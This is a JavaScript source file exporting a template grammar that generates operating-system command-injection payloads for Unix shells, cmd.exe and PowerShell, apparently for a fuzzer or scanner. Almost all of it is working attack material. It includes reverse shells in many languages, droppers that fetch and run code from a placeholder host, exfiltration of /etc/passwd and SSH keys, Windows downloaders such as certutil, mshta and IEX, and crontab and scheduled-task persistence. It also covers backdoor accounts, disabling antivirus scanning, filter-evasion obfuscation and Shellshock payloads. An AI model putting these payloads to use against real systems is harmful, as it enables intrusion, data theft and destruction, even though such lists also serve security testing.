/** Operating-system command injection: sh, bash, cmd.exe, PowerShell. */
export const RCE = String.raw`
sp: 10× ␠
  §{IFS}
  §IFS
  §IFS§9
  ⇥
  +
  %20
  %09
file: 5× /etc/passwd
  /etc/shadow
  /etc/hosts
  /etc/issue
  /etc/os-release
  /proc/version
  /proc/self/environ
  /flag
  /flag.txt
  ~/.ssh/id_rsa
  ~/.bash_history
  .env
  /root/‹~3-6›.txt
  config.php
  /var/log/auth.log
  /home/‹~3-6›/.ssh/authorized_keys
shcmd: 4× id
  3× whoami
  3× cat‹sp›‹file›
  2× ls
  2× ls‹sp›-la
  ls‹sp›/
  uname‹sp›-a
  pwd
  w
  ps‹sp›aux
  env
  printenv
  hostname
  ifconfig
  netstat‹sp›-an
  2× sleep‹sp›‹#1-30›
  2× ping‹sp›-c‹sp›‹#1-30›‹sp›‹addr›
  ping ‹addr›
  nslookup‹sp›‹host›
  nslookup -q=cname ‹host›
  dig ‹host›
  host ‹host›
  3× curl‹sp›‹scheme›://‹addr›/‹¦‹rnd››
  curl ‹addr›
  curl -s http://‹addr›/‹~1-6›.sh | bash
  curl http://‹addr›/?‹~1›=§(‹id¦whoami¦hostname¦cat /etc/passwd|base64›)
  curl -d @/etc/passwd http://‹addr›
  3× wget‹sp›http://‹addr›/‹~1-6›
  wget -q -O - http://‹addr›/‹~1-6›.sh | sh
  wget http://‹addr›/‹~2-6›.‹sh¦mips¦arm7¦x86¦elf› -O /tmp/‹~1-6›;chmod ‹777¦+x› /tmp/‹~1-6›;/tmp/‹~1-6›
  cd /tmp;‹rm -rf *;¦›wget http://‹addr›/‹~2-8›;chmod 777 ‹~2-8›;sh ‹~2-8›
  cd /tmp || cd /var/run || cd /mnt; wget http://‹addr›/‹~2-6›.sh; sh ‹~2-6›.sh
  busybox wget http://‹addr›/‹~2-6›
  tftp -g -r ‹~2-6›.sh ‹ip›
  echo‹sp›‹rnd›
  echo §((‹n›+‹n›))
  expr ‹n› ‹+¦*¦-› ‹n›
  echo ‹b64!‹id¦whoami¦bash -i >& /dev/tcp/‹ip›/‹port› 0>&1›› | base64 -d | ‹sh¦bash›
  echo -e "\x‹%2›\x‹%2›" > /tmp/‹~1-5›
  touch /tmp/‹rnd›
  rm‹sp›-rf‹sp›/‹¦tmp/*¦var/www/*›
  chmod 777 ‹file›
  useradd ‹~3-7›
  head -n ‹#1-9› ‹file›
  tail ‹file›
  more‹sp›‹file›
  less ‹file›
  tac‹sp›‹file›
  nl ‹file›
  grep root ‹file›
  awk '{print}' ‹file›
  sed -n 1,5p ‹file›
  xxd ‹file›
  base64 ‹file›
  od -c ‹file›
  strings ‹file›
  find / -name ‹*.conf¦flag*¦id_rsa› ‹2>/dev/null¦›
  find / -perm -4000
  which ‹nc¦python¦wget¦curl¦gcc›
  crontab -l
  reboot
  kill -9 ‹n›
  telnetd -l /bin/sh -p ‹port›
  utelnetd -l/bin/sh -p‹port› -d
  mail ‹~3-6›@‹host› < ‹file›
  python‹¦3› -c "‹import os;os.system('id')¦import socket,subprocess,os;s=socket.socket();s.connect(('‹ip›',‹port›))›"
  perl -e 'print "‹rnd›"'
  php -r 'system("id");'
  /bin/cat‹sp›‹file›
  /usr/bin/id
  /bin/sh -c '‹id¦whoami¦ls -la›'
  sh -c "‹id¦wget ‹addr›/‹~1-4›¦cat ‹file››"
  bash -c '‹id¦bash -i >& /dev/tcp/‹ip›/‹port› 0>&1›'
  ‹revsh›
  ‹obf›
  sudo ‹id¦su¦-l›
  cat ‹file› | nc ‹ip› ‹port›
  echo "* * * * * ‹curl http://‹addr›/‹~1-3›|sh¦/tmp/‹~1-5››" | crontab -
  echo "‹<?php phpinfo();?>¦ssh-rsa AAAAB3NzaC1yc2E‹*10-30›¦‹rnd››" ‹>¦>>› ‹/var/www/html/‹~1-5›.php¦~/.ssh/authorized_keys¦/tmp/‹~1-5››
  ‹id¦whoami¦uname -a¦cat ‹file›› > ‹/tmp/‹~1-5›¦../‹~1-5›.txt¦/var/www/html/‹~1-6›.txt¦/www/‹~1-5›.html›
  printf ‹rnd›
  set
  dir
  date
  iptables -F
  killall -9 ‹~3-8›
  openssl s_client -connect ‹ip›:‹port›
  mysql -u root -e 'show databases'
  docker run -v /:/mnt alpine
revsh: bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
  bash -c "bash -i >& /dev/tcp/‹ip›/‹port› 0>&1"
  /bin/bash -i >& /dev/tcp/‹host›/‹port› 0>&1
  0<&‹#50-199›;exec ‹=f:‹#50-199››<>/dev/tcp/‹ip›/‹port›; sh <&‹=f› >&‹=f› 2>&‹=f›
  exec 5<>/dev/tcp/‹ip›/‹port›;cat <&5 | while read line; do §line 2>&5 >&5; done
  nc -e /bin/‹sh¦bash› ‹ip› ‹port›
  nc ‹ip› ‹port› -e /bin/‹sh¦bash›
  nc -c sh ‹ip› ‹port›
  nc ‹addr›
  ncat ‹ip› ‹port› -e ‹/bin/sh¦cmd.exe¦/bin/bash›
  nc -l‹v¦vp¦nvp› ‹port› ‹-e /bin/sh¦›
  rm /tmp/‹=f:‹~1-3››;mkfifo /tmp/‹=f›;cat /tmp/‹=f›|/bin/sh -i 2>&1|nc ‹ip› ‹port› >/tmp/‹=f›
  mknod /tmp/‹=f:‹~1-3›› p;nc ‹ip› ‹port› 0</tmp/‹=f›|/bin/sh 1>/tmp/‹=f›
  python‹¦3¦2› -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("‹ip›",‹port›));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);‹import pty;pty.spawn("/bin/sh")¦subprocess.call(["/bin/sh","-i"])›'
  perl -e 'use Socket;§i="‹ip›";§p=‹port›;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(§p,inet_aton(§i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
  php -r '§s=fsockopen("‹ip›",‹port›);exec("/bin/sh -i <&3 >&3 2>&3");'
  ruby -rsocket -e'f=TCPSocket.open("‹ip›",‹port›).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
  socat TCP:‹ip›:‹port› EXEC:/bin/sh
  socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:‹ip›:‹port›
  telnet ‹ip› ‹port› | /bin/sh | telnet ‹ip› ‹port›
  awk 'BEGIN{s="/inet/tcp/0/‹ip›/‹port›";while(1){printf "> " |& s;s |& getline c;while((c |& getline) > 0)print §0 |& s}}'
  lua -e "require('socket');require('os');t=socket.tcp();t:connect('‹ip›','‹port›');os.execute('/bin/sh -i <&3 >&3 2>&3');"
  node -e 'require("child_process").exec("nc ‹ip› ‹port› -e /bin/sh")'
  openssl s_client -quiet -connect ‹ip›:‹port› | /bin/sh
  powershell -nop -c "§c=New-Object System.Net.Sockets.TCPClient('‹ip›',‹port›);§s=§c.GetStream();"
  zsh -c 'zmodload zsh/net/tcp && ztcp ‹ip› ‹port› && zsh >&§REPLY 2>&§REPLY 0>&§REPLY'
obf: c''at ‹file›
  c""at‹sp›‹file›
  c\at ‹file›
  c§@at ‹file›
  ca§@t ‹file›
  c§()at ‹file›
  w''h''o''ami
  w\ho\am\i
  wh§@oami
  who§u§ami
  i''d
  i\d
  'i'd
  /???/c?t‹sp›/???/p??s??
  /???/??t /???/p???w?
  /bin/c?? /e??/p?ss??
  /b*n/ca* /et*/pa*wd
  cat /e*c/p*d
  cat‹sp›/et'c'/pa''sswd
  cat §{HOME:0:1}etc§{HOME:0:1}passwd
  {cat,‹file›}
  {ls,-la}
  {curl,http://‹addr›/‹~1-4›}
  {echo,‹b64!bash -i >& /dev/tcp/‹ip›/‹port› 0>&1›}|{base64,-d}|{bash,-i}
  cat<‹file›
  cat<>‹file›
  a=c;b=at;§a§b ‹file›
  X=§'cat\x20/etc/passwd'&&§X
  §(printf '\‹#141-172›\‹#141-172›')
  §'\x‹%2›\x‹%2›\x‹%2›'
  §(tr '[A-Z]' '[a-z]'<<<"‹^3-8›")
  §(rev<<<'‹imaohw¦di¦dwssap/cte/ tac›')
  echo ‹hex!‹id¦whoami¦cat /etc/passwd›› | xxd -r -p | sh
  bash<<<§(base64 -d<<<‹b64!‹id¦cat /etc/passwd¦curl ‹addr›››)
  eval "§(echo ‹b64!‹id¦whoami›› | base64 -d)"
  §{PATH:0:1}bin§{PATH:0:1}id
  §0<<<id
  . /etc/passwd
  w§{x}hoami
  uname§{IFS}-a
  IFS=,;´cat<<<uname,-a´
  cat§{IFS}§{PATH%%u*}etc§{PATH%%u*}passwd
  p''ing -c ‹#1-9› ‹addr›
  cu''rl ‹addr›
  wge\t http://‹addr›/‹~1-4›
  c%61t ‹file›
sepr: 6× ;
  5× |
  4× ||
  4× &
  4× &&
  3× ⏎
  ␍⏎
  %0a
  |&
  ;;
  "&
  ';
  ";
  ´;
  ');
  ");
  '|
  "|
  '&&
  "&&
  '||
  \n
  ]|
  );
  \';
  \;
  ;␠
  %26
  %3b
  §;
tail: 9× ∅
  ;
  |
  #
  ␠#
  &
  &&
  ||
  ;#
  "
  '
  ;'
  |"
  %00
  ;echo␠
  ␠2>&1
  ␠> /dev/null
  |xargs
  ⏎

rce/separator 7: ‹sepr›‹sp›‹shcmd›‹tail›
  3× ‹sepr›‹shcmd›‹tail›
  ‹sepr›‹shcmd›‹sepr›‹shcmd›
  ‹sepr›‹sepr›‹shcmd›
  ‹=s:‹sepr››‹shcmd›‹=s›
  ‹=s:‹sepr›› ‹shcmd› ‹=s›
// What a form for a ping, a look-up or a conversion is given: what it asks for, and a command behind that.
ap.value: 4× ‹ip›
  2× ‹127.0.0.1¦localhost¦‹host››
  ‹n›
  ‹~3-9›.‹txt¦jpg¦png¦pdf¦log¦csv¦zip›
  ‹~3-7›@‹host›
ap.join = ; ;␠ ;␠ ;␠ ␠;␠ | ␠|␠ |␠ & ␠&␠ &␠ && ␠&&␠ ␠&&␠ || ␠||␠ ⏎ %0a
rce/appended 6: 3× ‹ap.value›‹ap.join›‹shcmd›‹tail›
  ‹ap.value›‹ap.join›‹shcmd›
  ‹ap.value›‹ap.join›‹shcmd›‹ap.join›‹shcmd›
rce/substitution 5: §(‹shcmd›)
  ´‹shcmd›´
  2× §(‹shcmd›)‹tail›
  "§(‹shcmd›)"
  '§(‹shcmd›)'
  ;§(‹shcmd›)
  |´‹shcmd›´
  ´‹shcmd›´.‹host›
  §(‹shcmd›).‹host›
  "´‹shcmd›´"
  §{‹~1›:-§(‹shcmd›)}
  §(§(‹shcmd›))
  <(‹shcmd›)
  >(‹shcmd›)
  a§(‹shcmd›)b
  ´ping -c ‹#1-9› ‹addr›´
  §(sleep ‹#1-30›)
  ´sleep ‹#1-30›´
  x[§(‹shcmd›)]
  ‹word›´‹shcmd›´‹word›
  @§(‹shcmd›)
  ´‹shcmd›
rce/acunetix 2: echo ‹~6›§()\ ‹~6›\nz^xyu||a #' &echo ‹~6›§()\ ‹~6›\nz^xyu||a #|" &echo ‹~6›§()\ ‹~6›\nz^xyu||a #
  &echo ‹~6›§()\ ‹~6›\nz^xyu||a #' &echo ‹~6›||a #|"
  |echo ‹~6›§()\ ‹~6›\nz^xyu||a #' |echo ‹~6›
  (nslookup -q=cname ‹host›||curl ‹host›)
  §(nslookup -q=cname ‹host›||curl ‹host›)
  &nslookup -q=cname ‹host›&'\"´0&nslookup -q=cname ‹host›&´'
  &(nslookup -q=cname ‹host›||curl ‹host›)&'\"´0&(nslookup ‹host›||curl ‹host›)&´'
  ;(nslookup ‹host›||curl ‹host›)|(nslookup ‹host›||curl ‹host›)&(nslookup ‹host›||curl ‹host›)
  |(nslookup ‹host›||curl ‹host›)
  ´(nslookup ‹host›||curl ‹host›)´
  "|ping -n ‹#5-30› 127.0.0.1||´ping -c ‹#5-30› 127.0.0.1´ #' |ping -n ‹#5-30› 127.0.0.1
  ;ping -c ‹#5-30› 127.0.0.1;'
  || ping -i ‹#5-30› 127.0.0.1 ; x || ping -n ‹#5-30› 127.0.0.1 &
  1;sleep§{IFS}‹#1-9›;#§{IFS}';sleep§{IFS}‹#1-9›;#§{IFS}";sleep§{IFS}‹#1-9›;#§{IFS}
  /*§(sleep ‹#1-9›)´sleep ‹#1-9›´´*/-sleep(‹#1-9›)-'/*§(sleep ‹#1-9›)´sleep ‹#1-9›´ #*/-sleep(‹#1-9›)||'"||sleep(‹#1-9›)||"/*´*/
  ;echo ‹~3-6›;echo §((‹n›+‹n›));echo ‹~3-6›
  %27%3Becho ‹~6›§((‹n›%2B‹n›))§(echo ‹~6›)‹~6›
  ;set /a ‹n›*‹n›
  |expr ‹n› + ‹n›
  &set /a (‹n›+‹n›)&
rce/reverse 3: ‹revsh›
  ‹sepr›‹revsh›‹tail›
  §(‹revsh›)
  ´‹revsh›´
  sh -c '‹revsh›'
  nohup ‹revsh› &
rce/dropper 3: ‹sepr›‹cd /tmp;¦›‹wget¦curl -O¦curl -o ‹~1-4›› http://‹addr›/‹=f:‹~2-7››‹.sh¦›‹;¦&&›chmod ‹+x¦777› ‹=f›‹;¦&&›./‹=f›
  cd /tmp; rm -rf ‹=f:‹~2-7››; wget http://‹addr›/‹=f›; chmod 777 ‹=f›; ./‹=f› ‹~3-8›
  ‹wget -qO-¦curl -fsSL¦curl -sk¦wget -O -¦lwp-download› http://‹addr›/‹~1-8›‹.sh¦› ‹|¦| sudo› ‹sh¦bash¦bash -s›
  wget http://‹addr›/‹~2-6›.sh -O /tmp/‹~1-3›;sh /tmp/‹~1-3›
  (curl -s http://‹addr›/‹~1-5›||wget -q -O- http://‹addr›/‹~1-5›)|bash
  cd /tmp;curl http://‹addr›/‹~2-5›.sh -o ‹~2-5›;sh ‹~2-5›;
  rm -rf /tmp/*;wget http://‹addr›/‹~2-6›.m -O /tmp/‹~2-6›;sh /tmp/‹~2-6›
  /bin/busybox wget http://‹addr›/bin.sh;chmod +x bin.sh;./bin.sh
  wget‹sp›http://‹addr›/‹~1-5›
  ‹sepr›fetch http://‹addr›/‹~1-5›
rce/oob 3: ‹sepr›‹nslookup¦dig¦host¦ping -c 1¦ping -n 1¦curl¦wget› ‹host›‹tail›
  ‹sepr›‹nslookup¦ping -c 1› ´‹whoami¦hostname¦id -un›´.‹host›‹tail›
  ‹sepr›curl ‹scheme›://‹host›/§(‹whoami¦id|base64¦hostname›)‹tail›
  ´‹nslookup¦curl¦wget› ‹host›´
  §(‹nslookup¦curl¦wget› ‹host›)
  ‹nslookup¦curl¦wget¦ping› ‹host›
  ‹sepr›wget --post-file=/etc/passwd http://‹addr›
  ‹sepr›cat /etc/passwd | curl -d @- http://‹addr›
  ‹word›@´‹curl¦nslookup› ‹host›´
rce/blind 2: ‹sepr›sleep‹sp›‹#1-30›‹tail›
  ‹sepr›ping -‹c¦n› ‹#1-60› ‹127.0.0.1¦localhost¦::1›‹tail›
  ‹sepr›timeout /T ‹#1-30›‹tail›
  ‹sepr›timeout ‹#1-30›‹tail›
  ‹n›‹sepr›sleep ‹#1-30›‹sepr›‹n›
  ;sleep §((‹#1-9›*‹#1-9›))
  & waitfor /T ‹#1-30› ‹~3-6›
  ‹sepr›usleep ‹#1-9›000000
  ||sleep ‹#1-30›||
  | sleep ‹#1-30›
  if [ §(whoami|cut -c 1) == ‹~1› ]; then sleep ‹#1-9›; fi
rce/bare 3: ‹shcmd›
  2× /bin/‹sh¦bash› -c ‹shcmd›
  ‹obf›
  cat /etc/passwd
  echo ‹rnd›;‹shcmd›
  ‹shcmd› && ‹shcmd›
  ‹shcmd›;‹shcmd›
  /bin/cat§{IFS}/etc/passwd
  /usr/bin/wget http://‹addr›/‹~1-4›
  exec ‹shcmd›
  cmd=‹shcmd›
  sudo ‹shcmd›
  bash -c ‹shcmd›
rce/newline 2: ⏎‹shcmd›⏎
  ‹word›⏎‹shcmd›
  ␍⏎‹shcmd›
  %0a‹shcmd›%0a
  ‹word›%0A‹shcmd›
  ⏎/bin/‹cat /etc/passwd¦ls -la¦ping -c ‹#1-9› ‹addr››⏎
  \n‹shcmd›\n
  '⏎‹shcmd›⏎'
rce/quoted 3: '‹sepr›‹shcmd›‹sepr›'
  "‹sepr›‹shcmd›‹sepr›"
  ';‹shcmd›;'
  ";‹shcmd›;"
  '|‹shcmd›|'
  '&‹shcmd›&'
  ' || ‹shcmd› || '
  "' ; ‹shcmd› #
  ');‹shcmd›;('
  ")||(‹shcmd›)#
  \";‹shcmd›;\"
  '$(‹shcmd›)'
  '´‹shcmd›´'
  "]; ‹shcmd› #
  '} ; ‹shcmd› ; {'
  ‹word›" && ‹shcmd› && echo "
  ‹word›' ; ‹shcmd› ; echo '
  ‹ip›;‹shcmd›
  ‹ip›|‹shcmd›
  ‹ip› && ‹shcmd›
  ‹host›;‹shcmd›;
  ‹word›.‹pdf¦jpg¦txt¦zip›;‹shcmd›
  ‹word›.jpg´‹shcmd›´.jpg
  ‹#1-9›;‹shcmd›
rce/json [body-json] 1: {"‹cmd¦command¦host¦ip¦target¦name¦url¦hostname¦server¦path›":"‹json!‹sepr›‹shcmd›‹tail››"}
  {"method":"‹~3-8›","params":{"‹~3-8›":"‹json!‹=s:‹;¦|¦´¦&&››‹shcmd›‹=s››"}}
  {"command":"run","utilCmdArgs":"-c ‹json!‹shcmd››"}
  {"‹host¦ip¦addr›":"‹ip›;‹json!‹shcmd››","count":‹#1-9›}
  {"username":"‹word›","password":"§(‹json!‹shcmd››)"}
  ["‹sh¦bash¦/bin/sh›","-c","‹json!‹shcmd››"]
  {"jsonrpc":"2.0","method":"‹~3-8›","params":["; ‹json!‹shcmd›› ;"],"id":‹#1-9›}
rce/shellshock [header] 2: () { :;}; ‹shcmd›
  () { :; }; ‹shcmd›
  () { :; };‹shcmd›
  () { ‹~2-8›;};echo;‹/bin/bash -c "‹shcmd›"¦‹shcmd››
  () { :;}; echo; /bin/‹cat /etc/passwd¦id¦uname -a›
  () { :;};/usr/bin/perl -e 'print "Content-Type: text/plain\r\n\r\n‹rnd›";system("‹id¦wget http://‹addr›/‹~1-4›¦uname -a›");'
  () { _; } >_[§(§())] { ‹shcmd›; }
  () { (a)=>\' ‹/bin/sh -c '‹shcmd›'¦‹shcmd››
  () { goo;}; echo; ‹shcmd›
  (){:;}; ‹shcmd›
  () { :;}; echo "‹^1›‹~3-8›: ‹rnd›"
rce/argument 2: --‹use-compress-program¦checkpoint-action¦to-command¦rsh-command›=‹exec=¦›'‹shcmd›'
  --checkpoint=1 --checkpoint-action=exec=‹sh ‹~1-5›.sh¦‹shcmd››
  -oProxyCommand=‹shcmd›
  --upload-pack=‹´‹shcmd›´¦touch /tmp/‹~1-5›;›
  -e'‹shcmd›'
  -exec ‹shcmd› \;
  --output=/var/www/html/‹~1-5›.php
  -o/tmp/‹~1-5› -O http://‹addr›/‹~1-5›
  ext::sh -c ‹shcmd›% >&2
  -be §{run{‹shcmd›}}
  ‹word› -OQueueDirectory=/tmp -X/var/www/html/‹~1-5›.php
  -sdevice=pdfwrite -c '(%pipe%‹shcmd›) (w) file'
  %pipe%‹shcmd›
  |‹shcmd›
  ‹word›.jpg"|‹shcmd›"
  push graphic-context⏎viewbox 0 0 640 480⏎fill 'url(https://‹addr›/‹~1-4›.jpg"|‹shcmd›")'⏎pop graphic-context
  (metadata "\c§{system('‹shcmd›')};")
  --post-file=/etc/‹passwd¦shadow›
  -Dxxx=´‹shcmd›´
  LD_PRELOAD=/tmp/‹~1-5›.so
  -f /etc/passwd -d @/etc/shadow

wcmd: 3× whoami
  2× dir
  dir c:\
  dir C:\Windows
  type c:\windows\win.ini
  type %SystemRoot%\win.ini
  type C:\inetpub\wwwroot\web.config
  2× ipconfig‹ /all¦›
  systeminfo
  net user
  net user ‹~3-8› ‹rnd› /add
  net localgroup administrators ‹~3-8› /add
  tasklist
  netstat -ano
  ver
  set
  echo %USERNAME%
  ping -n ‹#1-30› ‹addr›
  nslookup ‹host›
  certutil.exe -urlcache -split -f http://‹addr›/‹~1-6›.exe ‹C:\Windows\Temp\¦%TEMP%\¦›‹~1-6›.exe
  bitsadmin /transfer ‹~1-6› /download /priority high http://‹addr›/‹~1-5›.exe C:\‹Temp¦Users\Public›\‹~1-5›.exe
  mshta http://‹addr›/‹~1-5›.hta
  mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")
  regsvr32 /s /n /u /i:http://‹addr›/‹~1-5›.sct scrobj.dll
  rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://‹addr›/‹~1-4›")
  wmic process call create "‹calc.exe¦cmd /c whoami›"
  wmic os get /format:"http://‹addr›/‹~1-4›.xsl"
  msiexec /q /i http://‹addr›/‹~1-5›.msi
  cscript //nologo ‹~1-5›.vbs
  reg query HKLM\SOFTWARE
  schtasks /create /tn ‹~3-6› /tr ‹~1-5›.exe /sc onlogon
  start calc.exe
  cmd /c ‹whoami¦dir¦calc›
  cmd.exe /c ‹ping ‹addr›¦whoami¦echo ‹rnd› > C:\inetpub\wwwroot\‹~1-5›.txt›
  w^h^o^a^m^i
  c^m^d /c d^i^r
  who"a"mi
  p^o^w^e^rshell -c ls
  cmd /V:ON /c "set a=who&&set b=ami&&call %a%%b%"
  %COMSPEC% /c whoami
  %ProgramFiles:~10,1%whoami
  for /f %i in ('whoami') do nslookup %i.‹host›
  ‹psh›
  curl http://‹addr›/‹~1-4›.bat -o C:\Temp\‹~1-4›.bat
  del /f /q C:\*.*
  powershell ‹whoami¦Get-Process¦ls C:\¦Start-Sleep -s ‹#1-30››
psh: powershell‹.exe¦› ‹-nop -w hidden ¦-ep bypass ¦-NoP -NonI ¦›‹-enc¦-e¦-EncodedCommand› ‹b64utf16!IEX (New-Object Net.WebClient).DownloadString('http://‹addr›/‹~1-5›.ps1')›
  powershell‹ -nop¦› -c "IEX(New-Object Net.WebClient).DownloadString('http://‹addr›/‹~1-6›‹.ps1¦›')"
  powershell -c "Invoke-WebRequest ‹-Uri ¦›http://‹addr›/‹~1-5›.exe -OutFile C:\‹Temp¦Windows\Temp›\‹~1-5›.exe"
  powershell iwr ‹addr›/‹~1-4› -useb | iex
  IEX (iwr 'http://‹addr›/‹~1-5›.ps1' -UseBasicParsing)
  (New-Object System.Net.WebClient).DownloadFile('http://‹addr›/‹~1-4›.exe','‹~1-5›.exe')
  Invoke-Expression "whoami"
  Start-Process cmd.exe -ArgumentList '/c whoami'
  [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('‹*20-60›==')) | iex
  &("{1}{0}"-f'x','ie')('whoami')
  Get-Content C:\windows\win.ini
  powershell -Command "Add-MpPreference -ExclusionPath C:\"
rce/windows 5: ‹wsep›‹¦ ›‹wcmd›‹¦&¦|¦ &¦ #¦ & rem ›
  2× ‹wsep› ‹wcmd›
  ‹wcmd›
  "‹wsep›‹wcmd›‹wsep›"
  §(‹wcmd›)
  ‹=s:‹wsep››‹wcmd›‹=s›
  cmd.exe /c ‹wcmd›
  ‹ip›‹wsep›‹wcmd›
wsep = & && | || %26 "& '& ;␠ %0a | & ^& ⏎ )&
rce/powershell 2: ‹psh›
  ;‹psh›
  |‹psh›
  &‹psh›
  §(‹psh›)
  '; ‹psh›; '
  "; ‹psh› #
sh.word: ‹*3-12›
  ‹~3-12›
  §((‹n›‹+¦*›‹n›))
  "‹*3-9›"
  '‹*3-9›'
sh.before: 3× ‹anyword›
  ‹anyword›‹'¦"¦´¦)¦¦\'›
  ∅
sh.mark = ; | || & && |& \n
sh.sep: 3× ‹sh.mark›
  2× ‹'¦"›‹sh.mark›
  ⏎
  ␍⏎
  ‹¦ ›‹sh.mark›␠
sh.after: 3× ∅
  ‹¦ ›‹sh.mark›
  ␠#‹¦‹*1-6››
  ‹¦ ›‹sh.mark›‹¦ ›‹'¦"›
  ␠2>&1
  ‹'¦"›
  ␠||
  ␠#'
  ‹;¦&&¦|› ‹echo¦true¦exit› ‹*3-6›
sh.run: 4× echo ‹sh.word›
  3× echo ‹sh.word› ‹sh.word›
  ‹expr ‹n› + ‹n›¦printf ‹sh.word›¦set /a ‹n›+‹n›¦echo %‹^2-9›%¦echo §‹^2-9›¦ver¦uname¦hostname¦date¦pwd¦env¦set¦dir¦ls¦id¦who¦w¦ps¦df¦arch¦ipconfig¦ifconfig¦netstat -an¦cat ‹~2-8›¦type ‹~2-8››
  ‹ping -‹c¦n¦w› ‹#1-30› ‹127.0.0.1¦localhost¦‹ip››¦timeout ‹#1-30›¦sleep ‹#1-30›¦start-sleep -s ‹#1-30›¦usleep ‹#1000-9999999››
  ‹nslookup¦curl¦wget -q¦ping¦host› ‹*6-24›.‹host›
rce/proof 6: 6× ‹sh.before›‹sh.sep›‹sh.run›‹sh.after›
  ‹sh.before›‹´‹sh.run›´¦§(‹sh.run›)¦<(‹sh.run›)›
  ‹sh.before›‹sh.sep›‹sh.run›‹sh.mark›‹sh.run›‹sh.after›
  ‹n›´‹ls¦ps¦id¦cat ‹~2-6››>/‹~2-6›/‹~2-8›‹.txt¦.html¦›´
  ‹n›‹;¦|¦&›‹sh.run›>‹/tmp/¦/var/www/¦/web/¦../›‹~2-8›‹.txt¦.html¦›‹¦ #›
`
